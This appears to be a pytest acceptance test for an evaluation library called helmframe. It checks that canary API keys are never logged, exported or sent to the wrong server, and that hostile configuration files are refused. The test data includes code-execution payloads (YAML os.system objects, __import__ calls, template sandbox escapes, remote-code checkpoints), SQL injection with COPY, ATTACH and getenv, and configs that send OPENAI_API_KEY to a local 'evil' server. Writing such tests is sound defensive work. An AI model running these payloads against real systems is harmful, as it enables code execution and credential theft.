"""Canary keys in all places that have keys, and files that try to read, fetch or run: nothing is leaked or executed.

All servers are real ones on this machine, which record the requests that they receive.
"""

import json
import logging
import os
import subprocess
import sys
import warnings
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from dataclasses import dataclass, field
from hashlib import sha256
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from traceback import format_exception

import polars as pl
import pyarrow as pa
import pytest

import helmframe as hf
from helmframe._plan import Plan
from helmframe.cli.app import main
from helmframe.errors import HelmframeError
from helmframe.metrics import endpoint as classifier_of
from helmframe.models.providers import providers
from tests.acceptance.figures import shown
from tests.hub_server import Hub, hub_server
from tests.models.batch_server import BatchServer, serving_batches
from tests.models.openai_server import Asked, Reply, Server, serving
from tests.models.tiny import gpt2_folder
from tests.s3_server import BUCKET, SECRET, S3Server

pytestmark = pytest.mark.shared
ROOT = Path(__file__).parents[2]
QUESTIONS = pl.DataFrame({"input": [f"Question {n}?" for n in range(8)], "references": [["A"]] * 8})
# Variables whose values no server needs.
VARIABLES = (
    *("DATABASE_URL", "SMTP_PASS", "GITLAB_PAT", "MLFLOW_TRACKING_TOKEN", "MLFLOW_TRACKING_PASSWORD", "WANDB_API_KEY"),
    *("SIGNING_KEYS", "MY_CLIENT_SECRET", "VAULT_CREDENTIALS", "REDIS_URL", "SENTRY_DSN"),
)
# Variables of servers that run here, by the server that may receive them.
SERVERS = {
    "MODEL_SERVER": "model",
    "HELMFRAME_API_KEY": "model",
    "JUDGE_SERVER": "judge",
    "BATCH_SERVER": "batch",
    "CLASSIFIER_SERVER": "classifier",
    "HF_TOKEN": "hub",
}


def canary(place: str) -> str:
    """Return the key of a place, in no known form."""
    return f"canary{sha256(place.encode()).hexdigest()[:26]}"


@dataclass
class Evidence:
    """The canaries by place, and all texts that were written, shown or received.

    Attributes:
        places: Place → canary.
        own: Place → the server that may receive the canary.
        written: Name → text of a file, an error, a repr or an output.
        received: Server → the requests that it received, as text.
    """

    places: dict[str, str] = field(default_factory=dict)
    own: dict[str, str] = field(default_factory=dict)
    written: dict[str, str] = field(default_factory=dict)
    received: dict[str, list[str]] = field(default_factory=dict)

    def add(self, place: str, text: str = "", own: str = "") -> str:
        """Add the canary of a place and return it."""
        self.places[place], self.own[place] = text or canary(place), own
        return self.places[place]

    def error(self, place: str, action: Callable[[], object]) -> str:
        """Add the traceback of an action that must raise one of our errors, and return the error's class."""
        try:
            action()
        except HelmframeError as error:
            self.written[f"error of {place}"] = "".join(format_exception(error))
            return type(error).__name__
        return "nothing raised"

    def found(self, place: str) -> list[str]:
        """Return where the canary of a place was found, except at its own server."""
        text = self.places[place]
        servers = [name for name, requests in self.received.items() if text in "\n".join(requests)]
        return [
            *(name for name, content in self.written.items() if text in content),
            *(f"server {name}" for name in servers if name != self.own[place]),
        ]


@pytest.fixture
def evidence() -> Evidence:
    return Evidence()


@pytest.fixture
def environment(evidence: Evidence, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The canaries of environment variables."""
    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf"))
    keys = dict.fromkeys(provider.key for provider in providers().values() if provider.key)
    for name in (*keys, *VARIABLES, *SERVERS):
        text = f"postgresql://me:{canary(name)}@db.example.org/x" if name.endswith("_URL") else canary(name)
        monkeypatch.setenv(name, text)
        evidence.add(f"variable {name}", canary(name), SERVERS.get(name, ""))
    evidence.add("S3 secret", SECRET, "")


def echo(asked: Asked, number: int) -> Reply:
    """Return a reply that repeats all that the server received, in one of several parts of a reply."""
    key = asked.headers.get("Authorization", "").removeprefix("Bearer ") + asked.headers.get("x-api-key", "")
    text = f"<score>1</score> Your key is {key}, {key[:-2]}{key[-2:]}."
    choice = {"message": {"content": text, "reasoning_content": text}, "text": text, "finish_reason": "stop"}
    usage = {"prompt_tokens": 1, "completion_tokens": 1}
    replies = [
        Reply({"choices": [choice], "usage": usage}, headers={"X-Echo": key}),
        Reply({"choices": [{**choice, "finish_reason": key}], "id": key, "system_fingerprint": key}),
        Reply({"error": {"message": f"wrong: {key}", "code": key, "param": key, "type": key}}, 400, {"X-Echo": key}),
        Reply({"nothing": [key] * 3}),
        Reply({"error": {"padding": " " * 570, "key": key}}, 422),
    ]
    return replies[number % len(replies)]


class _Recorder(BaseHTTPRequestHandler):
    """A server that records all requests and repeats them."""

    requests: list[str]

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
        self.requests.append(f"{self.command} {self.path}\n{self.headers}\n{body}")
        reply = json.dumps(self.respond(body)).encode()
        self.send_response(self.status)
        self.send_header("Content-Length", str(len(reply)))
        self.end_headers()
        self.wfile.write(reply)

    do_GET = do_POST  # noqa: N815 - the name that the server calls
    status = 200

    def respond(self, body: str) -> object:
        del body
        return {"choices": [{"text": "A", "message": {"content": "A"}, "finish_reason": "stop"}]}

    def log_message(self, format: str, *args: object) -> None: ...


class _Classifier(_Recorder):
    def respond(self, body: str) -> object:
        return [0.5 for _ in json.loads(body)["inputs"]]


class _BrokenClassifier(_Recorder):
    status = 400

    def respond(self, body: str) -> object:
        del body
        return {"error": f"bad key {self.headers['Authorization']}"}


def recording(stack: ExitStack, handler: type[_Recorder], requests: list[str]) -> str:
    """Return the address of a server of this machine, as a name that isn't the loopback's."""
    made = type("Handler", (handler,), {"requests": requests})
    server = ThreadingHTTPServer(("127.0.0.1", 0), made)
    thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    stack.callback(server.server_close)
    stack.callback(thread.join)
    stack.callback(server.shutdown)
    # Linux connects this address to this machine, but it is none of the loopback's
    return f"http://0.0.0.0:{server.server_port}"


@dataclass
class Servers:
    """The running servers."""

    model: Server
    judge: Server
    batch: BatchServer
    hub: Hub
    classifier: str
    broken: str
    evil: str


@pytest.fixture
def servers(evidence: Evidence, environment: None, monkeypatch: pytest.MonkeyPatch) -> Iterator[Servers]:
    """The servers; each repeats the keys that it receives."""
    for name in ("evil", "classifier"):
        evidence.received[name] = []
    with ExitStack() as stack:
        model, judge = stack.enter_context(serving()), stack.enter_context(serving())
        model.reply = lambda asked: echo(asked, len(model.asked))
        judge.reply = lambda asked: echo(asked, len(judge.asked) % 2)
        batch = stack.enter_context(serving_batches())
        batch.open.set()
        batch.complete = lambda body: f"Your key is {dict(batch.headers[-1])}."
        repository = {"data/test-0.parquet": (ROOT / "tests/acceptance/finding.parquet").read_bytes()}
        hub = stack.enter_context(hub_server({"own/rows": repository}, gated=["own/rows"]))
        hub.token = canary("HF_TOKEN")
        monkeypatch.setenv("HF_ENDPOINT", hub.endpoint)
        classifier = recording(stack, _Classifier, evidence.received["classifier"])
        broken = recording(stack, _BrokenClassifier, evidence.received["classifier"])
        evil = recording(stack, _Recorder, evidence.received["evil"])
        yield Servers(model, judge, batch, hub, classifier, broken, evil)
        evidence.received |= {
            "model": [str(asked) for asked in model.asked],
            "judge": [str(asked) for asked in judge.asked],
            "batch": [str(dict(headers)) for headers in batch.headers] + [str(batch.live), str(batch.files)],
            "hub": [str(request) for request in hub.requests],
        }


def leaky(evidence: Evidence) -> Callable[[str], str]:
    """Return a model function that logs, warns of and raises all keys of the environment."""
    keys = " ".join(evidence.places.values())

    def generate(prompt: str) -> str:
        logging.getLogger("some.library").warning("Authorization: %s", keys)
        logging.getLogger("some.library").error("key %s", keys, exc_info=ValueError(keys))
        warnings.warn(f"deprecated key {keys}", stacklevel=1)
        if "3?" in prompt:
            raise ValueError(f"refused: {keys}")
        return "A"

    return generate


def arguments(servers: Servers, folder: Path) -> dict[str, Callable[[str], object]]:
    """Return the arguments that are refused: place → an action with a key."""
    url = servers.model.url
    plan = hf.scenario(QUESTIONS, name="q")

    def file(name: str, text: str) -> Path:
        path = folder / name
        path.write_text(text)
        return path

    def plan_file(text: str) -> Callable[[str], object]:
        return lambda key: Plan.from_yaml(file("canary.yaml", text.replace("KEY", key)))

    return {
        "user of a model's address": lambda key: hf.model(f"http://{key}@host/v1#m"),
        "password of a model's address in capitals": lambda key: hf.model(f"HTTP://me:{key}@host/v1#m"),
        "password of an address with another scheme": lambda key: hf.model(f"ftp://me:{key}@host/m"),
        "query of a model's address": lambda key: hf.models.http(f"{url}?api_key={key}", "m"),
        "name of a model": lambda key: hf.models.http(url, f"sk-{key}"),
        "header in extra=": lambda key: hf.models.http(url, "m", extra={"headers": {"Authorization": f"Bearer {key}"}}),
        "nested extra=": lambda key: hf.models.http(url, "m", extra={"a": [{"b": {"apiKey": key}}]}),
        "api_key= in a model's text": lambda key: hf.model(f"http(url='{url}', name='m', api_key='{key}')"),
        "hf_token= of vLLM": lambda key: hf.model(f"vllm(model='org/name', hf_token='{key}')"),
        "key_env=": lambda key: hf.models.http(url, "m", key_env=f"{key}-0"),
        "api_key= of generate()": lambda key: plan.generate(lambda prompt, **more: "A", api_key=key),
        "headers= of generate()": lambda key: plan.generate(lambda prompt, **more: "A", headers={"x-api-key": key}),
        "extra= of a batch model": lambda key: hf.models.batch("m", url=url, extra={"auth": {"token": key}}),
        "password of data=": lambda key: hf.scenario("boolq", data=f"S3://me:{key}@bucket/x"),
        "password of configure(store=)": lambda key: hf.configure(store=f"s3://me:{key}@bucket/x"),
        "classifier's address": lambda key: hf.metrics.toxicity(classifier=f"http://me:{key}@host/x"),
        "classifier's key": lambda key: classifier_of("http://host/x", key=f"{key}-0"),
        "judge's text": lambda key: plan.metrics(f'judge(model=\'http(url="{url}", name="m", api_key="{key}")\')'),
        "plan file, extra": plan_file(
            f"{{scenario: sampler, generate: \"http(url='{url}', name='m', extra={{'token': 'KEY'}})\"}}"
        ),
        "plan file, data": plan_file("{scenario: sampler, data: 's3://me:KEY@bucket/x'}"),
        "plan file, decoding": plan_file("{scenario: sampler, generate: {model: oracle(), api_key: KEY}}"),
        ".conf file": lambda key: hf.suite(
            str(file("canary.conf", f"entries: [{{description: \"boolq:model=http(url='{url}',api_key='{key}')\"}}]"))
        ),
    }


def written_by(results: hf.Results, folder: Path) -> dict[str, str]:
    """Return all exports and texts of results."""
    texts = {
        "repr": repr(results),
        "html": results._repr_html_(),
        "errors": str(results.errors().to_dicts()),
        "manifest": json.dumps(results.manifest, default=str),
        "eval results": results.to_eval_results(
            datasets={"q": "own/rows", "boolq": "own/rows"}, model=next(iter(results.manifest["models"]))
        ),
    }
    results.report(folder / "report.html")
    results.write_table(folder / "table.csv")
    for name in ("parquet", "helm", "every_eval_ever", "lm_eval"):
        getattr(results, f"to_{name}")(folder / name)
    return texts


def content_of(folder: Path) -> dict[str, str]:
    """Return the texts of all files: the bytes, and the decoded rows of Parquet and compressed files."""
    texts = {}
    for file in sorted(path for path in folder.rglob("*") if path.is_file()):
        name, data = str(file.relative_to(folder)), file.read_bytes()
        texts[name] = data.decode("utf-8", "replace")
        if file.suffix == ".parquet":
            texts[f"{name} (rows)"] = str(pl.read_parquet(data).to_dicts())
        elif file.suffix in (".zst", ".gz"):
            compression = {".zst": "zstd", ".gz": "gzip"}[file.suffix]
            texts[f"{name} (text)"] = (
                pa.input_stream(pa.BufferReader(data), compression).read().decode("utf-8", "replace")
            )
        elif file.suffix in (".arrow", ".ipc"):
            texts[f"{name} (rows)"] = str(pl.read_ipc(data).to_dicts())
    return texts


def command(*words: str) -> str:
    """Return the output of the command in a process of its own."""
    process = subprocess.run(
        [sys.executable, "-m", "helmframe", *words],
        cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True, check=False, timeout=120,
        stdin=subprocess.DEVNULL,
    )  # fmt: skip
    return f"{process.returncode}\n{process.stdout}\n{process.stderr}"


@pytest.mark.filterwarnings("ignore:deprecated key")
def test_1_no_canary_is_written_printed_or_sent_to_another_server(
    evidence: Evidence,
    servers: Servers,
    s3_server: S3Server,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    for name, value in s3_server.environment.items():
        monkeypatch.setenv(name, value)
    plan = hf.scenario(QUESTIONS, name="q")
    judge = hf.judge(hf.models.http(servers.judge.url, "j", chat=True, key_env="JUDGE_SERVER"), "safety")
    toxicity = hf.metrics.toxicity(classifier=classifier_of(servers.classifier, key="CLASSIFIER_SERVER"), name="rating")
    echoing = [
        hf.models.http(servers.model.url, "m", key_env="MODEL_SERVER"),
        hf.models.http(servers.model.url, "chat", chat=True),
        hf.models.batch(hf.models.http(servers.batch.url, "b", chat=True, key_env="BATCH_SERVER")),
    ]
    runs = [
        plan.generate([*echoing, hf.model(leaky(evidence), name="leaky")]).metrics(
            "quasi_exact_match", judge, toxicity
        ),
        hf.scenario("boolq", data=f"s3://{BUCKET}").limit(2).generate(hf.models.oracle()),
    ]
    for number, one in enumerate(runs):
        evidence.written[f"repr of plan {number}"] = repr(one) + repr(hf.model(echoing[0]))
        evidence.written[f"explain {number}"] = one.explain()
        run = one.submit()
        results = run.wait()
        evidence.written[f"repr of run {number}"] = repr(run) + str(run.logs().to_dicts())
        folder = tmp_path / f"exports {number}"
        folder.mkdir()
        evidence.written |= {f"{name} {number}": text for name, text in written_by(results, folder).items()}
        evidence.written |= {f"export {name}": text for name, text in content_of(folder).items()}
    # runs that fail
    broken = hf.metrics.toxicity(classifier=classifier_of(servers.broken, key="CLASSIFIER_SERVER"), name="broken")
    with suppress(HelmframeError):
        results = plan.limit(2).generate(lambda prompt: "A").metrics("quasi_exact_match", broken).score()
        evidence.written["broken classifier"] = repr(results) + json.dumps(results.manifest, default=str)
    for status in (401, 302):
        with serving() as failing:
            failing.reply = lambda asked, status=status: Reply(  # type: ignore[misc]
                {"detail": dict(asked.headers)}, status, {"Location": f"http://host/{asked.headers['Authorization']}"}
            )
            model = hf.models.http(failing.url, "m", key_env="MODEL_SERVER")
            failed = plan.limit(2).generate(model)
            raised = evidence.error(f"HTTP {status}", failed.score)
            assert raised != "nothing raised" or failed.score().errors().height == 2
    hub = tmp_path / "hub.yaml"
    hub.write_text(HUB_SPEC)
    evidence.error("a missing file of the Hub", lambda: hf.scenario(str(hub)).instances())
    # arguments
    for place, action in arguments(servers, tmp_path).items():
        key = evidence.add(f"argument: {place}")
        raised = evidence.error(place, lambda action=action, key=key: action(key))  # type: ignore[misc]
        assert raised != "nothing raised", place
    # the command line
    (tmp_path / "plan.yaml").write_text(
        f"{{scenario: sampler, limit: 3, generate: {{model: '{servers.model.url}#cli'}}}}"
    )
    for number, words in enumerate((["run"], ["run", "--verbose"], ["explain", "--verbose"])):
        evidence.written[f"terminal {number}"] = command(*words, str(tmp_path / "plan.yaml"))
    user = evidence.add("argument: --model")
    for extra in ([], ["--verbose"]):
        address = f"http://me:{user}@host/v1#m"
        evidence.written[f"terminal --model {extra}"] = command(
            "run", "sampler:subject=music", "--model", address, *extra
        )
    # all files of the store, the terminal, and the log
    evidence.written |= {f"store {name}": text for name, text in content_of(tmp_path / "store").items()}
    output = capfd.readouterr()
    evidence.written |= {"standard output": output.out, "standard error": output.err, "log": caplog.text}
    evidence.received |= {
        "model": [str(asked) for asked in servers.model.asked],
        "judge": [str(asked) for asked in servers.judge.asked],
        "batch": [str(dict(headers)) for headers in servers.batch.headers],
        "hub": [str(request) for request in servers.hub.requests],
    }
    report(evidence)
    for place in evidence.places:
        assert evidence.found(place) == [], place
    # the servers did receive their own keys, and their replies were stored without them
    for name in ("MODEL_SERVER", "HELMFRAME_API_KEY", "JUDGE_SERVER", "BATCH_SERVER", "CLASSIFIER_SERVER", "HF_TOKEN"):
        assert any(canary(name) in request for request in evidence.received[SERVERS[name]]), name
    assert any("Your key is ***" in text for name, text in evidence.written.items() if name.startswith("store"))
    assert "***" in evidence.written["standard error"] + evidence.written["log"]
    assert evidence.received["evil"] == []


HUB_SPEC = """\
scenario: own_rows
version: 1
source: {rows: "hf://datasets/own/rows/{split}/nothing-*.parquet"}
columns: {q: VARCHAR}
splits: {data: test}
instances: |
  SELECT row_index, split, q AS input, [{'text': 'a', 'correct': true}] AS "references" FROM rows
metrics: [exact_match]
main: {metric: exact_match}
"""


def report(evidence: Evidence) -> None:
    """Print place × found."""
    print()
    for place in evidence.places:
        found = evidence.found(place)
        print(f"  {place:<55} {', '.join(found[:3]) if found else 'not found'}")
    leaked = sum(bool(evidence.found(place)) for place in evidence.places)
    n_texts, n_requests = len(evidence.written), sum(map(len, evidence.received.values()))
    shown(
        "1", f"canaries found, of {len(evidence.places)} places in {n_texts} texts and {n_requests} requests", leaked, 0
    )
    assert len(evidence.places) >= 30


SPEC = """\
scenario: foreign
version: 1
source: {rows: "DATA/{split}-*.parquet"}
columns: {q: VARCHAR}
splits: {test: test}
instances: |
  SELECT row_index, split, SQL AS input, [{'text': 'a', 'correct': true}] AS "references" FROM rows
metrics: [exact_match]
main: {metric: exact_match}
"""
SQL = {
    "read_text": "(SELECT content FROM read_text('PRIVATE'))",
    "read_csv": "(SELECT any_value(column0) FROM read_csv('PRIVATE', header = false))",
    "read_blob": "(SELECT content::VARCHAR FROM read_blob('PRIVATE'))",
    "read_parquet": "(SELECT any_value(q) FROM read_parquet('DATA/private.parquet'))",
    "a file as a table": "(SELECT any_value(q) FROM 'DATA/private.parquet')",
    "glob": "(SELECT any_value(file) FROM glob('DATA/*'))",
    "COPY": "1) AS x; COPY (SELECT 1) TO 'DATA/written.csv'; SELECT (1",
    "ATTACH": "1) AS x; ATTACH 'DATA/written.db'; SELECT (1",
    "INSTALL": "1) AS x; INSTALL httpfs; SELECT (1",
    "LOAD": "1) AS x; LOAD httpfs; SELECT (1",
    "SET": "1) AS x; SET enable_external_access = true; SELECT (1",
    "PRAGMA": "1) AS x; PRAGMA database_list; SELECT (1",
    "getenv": "getenv('OPENAI_API_KEY')",
    "a file over HTTP": "(SELECT content FROM read_text('EVIL/x'))",
}
CODE = "from pathlib import Path\nPath(r'MARKER').write_text('executed')\n"


def foreign(folder: Path, evil: str) -> dict[str, tuple[str, Callable[[Path], object]]]:
    """Return the files that try to read, fetch or run: what they try → the text and how a user loads them."""
    key, sampler = "OPENAI_API_KEY", "scenario: sampler\nlimit: 1\n"
    checkpoint = gpt2_folder(folder / "checkpoint")
    marker = str(folder / "executed")
    code = CODE.replace("MARKER", marker)
    (checkpoint / "modeling_gpt2.py").write_text(code)
    for name in ("utils.py", "task_file.py"):
        (folder / name).write_text(code + "def process(docs):\n    return docs\n")
    private = folder / "private.txt"

    def conf(path: Path) -> object:
        return hf.suite(str(path), models=hf.models.oracle()).limit(1).score()

    def plan(path: Path) -> object:
        return hf.suite(str(path)).limit(1).score()

    def spec(path: Path) -> object:
        return hf.scenario(str(path)).instances().collect()

    entry = 'entries: [{description: "sampler:subject=music'
    confs = {
        "${VARIABLE} as a model": f'{entry},model={evil}/v1#"${{{key}}}}}]',
        "${?VARIABLE}": f'{entry}"${{?{key}}}}}]',
        "include of a file": f'include "{private}"\n{entry}"}}]',
        "include of an address": f'include url("{evil}/x.conf")\n{entry}"}}]',
        "include required(file)": f'include required(file("{private}"))\n{entry}"}}]',
        "include of a package": f'include package("helmframe:__init__.py")\n{entry}"}}]',
        "key_env of another server": f"{entry},model=http(url='{evil}/v1',name='m',key_env='{key}')\"}}]",
        "code of a checkpoint": f"{entry},model=local(model='{checkpoint}',trust_remote_code=True)\"}}]",
    }
    server = f"http(url='{evil}/v1', name='m', key_env='{key}')"
    judge = f"judge(model={server!r}, template='safety')"
    plans = {
        "trust_remote_code": f"{sampler}generate: \"local(model='{checkpoint}', trust_remote_code=True)\"",
        "trust_remote_code of vLLM": f"{sampler}generate: \"vllm(model='{checkpoint}', trust_remote_code=True)\"",
        "a plug-in of vLLM": f"{sampler}generate: \"vllm(model='{checkpoint}', worker_extension_cls='os.path')\"",
        "key_env of another server": f"{sampler}generate: \"http(url='{evil}/v1', name='m', key_env='{key}')\"",
        "key_env of a batch server": f"{sampler}generate: \"batch(model='{evil}/v1#m', key_env='{key}')\"",
        "key_env of a judge": f"{sampler}generate: oracle()\n" + json.dumps({"metrics": [judge]})[1:-1],
        "a task in Python": f"scenario: 'inspect:{folder}/task_file.py@task'\ngenerate: oracle()",
        "SQL in where": f"{sampler}where: [\"(SELECT content FROM read_text('{private}')) = 'x'\"]\ngenerate: oracle()",
        "COPY in where": f"{sampler}generate: oracle()\n"
        f"where: [\"true); COPY (SELECT 1) TO '{folder}/written.csv'; SELECT (1\"]",
        "an object of YAML": f"{sampler}generate: !!python/object/apply:os.system ['touch {marker}']",
        "an f-string in a call": f"{sampler}generate: \"noisy(accuracy=__import__('os').system('touch {marker}'))\"",
    }
    task = "task: t\ndataset_path: json\ntest_split: test\n"
    tasks = {
        "!function next to the task": f"{task}process_docs: !function utils.process\n",
        "!function of a package": f"{task}process_docs: !function os.system\n",
        "include of a file elsewhere": f"include: {private}\ntask: t\ndataset_path: json\ntest_split: test\n",
        "a template with Python": "task: t\ndataset_path: json\ndataset_kwargs: {data_files: {test: rows.json}}\n"
        "test_split: test\noutput_type: generate_until\ndoc_to_target: a\n"
        "doc_to_text: \"{{ ''.__class__.__mro__[1].__subclasses__() }}\"\n",
    }
    (folder / "rows.json").write_text('[{"q": "x", "a": "y"}]')
    files: dict[str, tuple[str, Callable[[Path], object]]] = {
        f".conf: {name}": (text, conf) for name, text in confs.items()
    }
    files |= {f"plan: {name}": (text, plan) for name, text in plans.items()}
    files |= {f"task: {name}": (text, spec) for name, text in tasks.items()}
    for name, sql in SQL.items():
        text = SPEC.replace("SQL", sql.replace("PRIVATE", str(private)).replace("EVIL", evil))
        files[f"spec: {name}"] = (text.replace("DATA", str(folder / "data")), spec)
    return files


def test_1_foreign_files_that_read_fetch_or_run_are_refused(
    evidence: Evidence, servers: Servers, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    stolen = evidence.add("a private file")
    (tmp_path / "private.txt").write_text(f"# {stolen}\nstolen: 1\n")
    data = tmp_path / "data"
    data.mkdir()
    pl.DataFrame({"q": ["a question"]}).write_parquet(data / "test-0.parquet")
    pl.DataFrame({"q": [stolen]}).write_parquet(data / "private.parquet")
    files = foreign(tmp_path, servers.evil)
    before = sorted(tmp_path.rglob("*"))
    refused: dict[str, str] = {}
    for number, (name, (text, load)) in enumerate(files.items()):
        suffix = ".conf" if name.startswith(".conf") else ".yaml"
        path = tmp_path / f"file{number}{suffix}"
        path.write_text(text)
        refused[name] = evidence.error(name, lambda load=load, path=path: load(path))  # type: ignore[misc]
        if name.startswith((".conf", "plan")):
            # without a terminal, the command raises too
            text = evidence.written[f"command: {name}"] = _command_in_process(str(path))
            assert text.startswith(("1", "2")), (name, text)
    print()
    for name, error in refused.items():
        print(f"  {name:<40} {error}")
    allowed = [name for name, error in refused.items() if error == "nothing raised"]
    shown("1", f"foreign files that were not refused, of {len(refused)}", len(allowed), 0)
    assert allowed == []
    shown("1", "requests that the attacker's server received", len(evidence.received["evil"]), 0)
    assert evidence.received["evil"] == []
    # apart from the canary that a private file has, the errors show no key
    for place in evidence.places:
        assert evidence.found(place) == [], place
    written = [path for path in tmp_path.rglob("*") if path not in before and "store" not in path.parts]
    assert {path.suffix for path in written} <= {".conf", ".yaml", ""}, written
    assert not (tmp_path / "executed").exists()
    # a file that its user trusts works: the same server then receives the key
    trusted = tmp_path / "trusted.yaml"
    trusted.write_text(files["plan: key_env of another server"][0])
    assert hf.suite(str(trusted), trusted=True).score().errors().height == 0
    assert canary("OPENAI_API_KEY") in "".join(evidence.received["evil"])


def _command_in_process(path: str) -> str:
    """Return the exit code and the output of `helmframe run`."""
    import contextlib
    import io

    output = io.StringIO()
    with contextlib.redirect_stdout(output), contextlib.redirect_stderr(output), pytest.MonkeyPatch.context() as patch:
        patch.setattr(sys, "stdin", io.StringIO("y\n"))
        code = main(["run", path])
    return f"{code}\n{output.getvalue()}"
